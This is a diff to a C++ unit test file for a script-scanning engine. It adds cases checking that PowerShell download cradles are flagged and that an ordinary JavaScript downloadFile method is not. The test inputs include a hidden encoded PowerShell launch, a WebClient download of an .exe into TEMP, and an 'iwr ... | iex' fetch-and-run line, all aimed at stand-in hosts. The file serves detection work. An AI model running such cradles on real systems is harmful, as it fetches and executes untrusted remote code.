@@ -47,6 +47,24 @@ TEST_CASE("PowerShell download cradles and encoded commands are found in .ps1 an
                          "@echo off\r\npowershell.exe -NoP -W Hidden -enc "
                          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n");
   CHECK(has(rules_in(cmd, "bin/run.cmd"), "text-powershell-encoded"));
+
+  auto wc = analyse_one("tools/get.ps1",
+                        "$c = New-Object System.Net.WebClient\r\n"
+                        "$c.DownloadFile('https://payload.example.invalid/a.exe', $env:TEMP + "
+                        "'\\a.exe')\r\n");
+  CHECK(has(rules_in(wc, "tools/get.ps1"), "text-powershell-download"));
+  auto iwr =
+      analyse_one("tools/get.cmd", "powershell -c \"iwr http://x.example.invalid/s | iex\"\r\n");
+  CHECK(has(rules_in(iwr, "tools/get.cmd"), "text-powershell-download"));
+}
+
+TEST_CASE("text-powershell-download: a JavaScript downloadFile method is not a cradle",
+          "[engine][windows]") {
+  auto a = analyse_one("lib/browser.js",
+                       "async function downloadFile(url, dest) { return fetcher.get(url, dest); }\n"
+                       "await this.downloadFile(url, path.join(dir, 'chrome.zip'));\n"
+                       "$http.downloadFile(url);\n");
+  CHECK_FALSE(has(rules_in(a, "lib/browser.js"), "text-powershell-download"));
 }
 
 TEST_CASE("certutil and system binaries used as loaders are found in .bat", "[engine][windows]") {
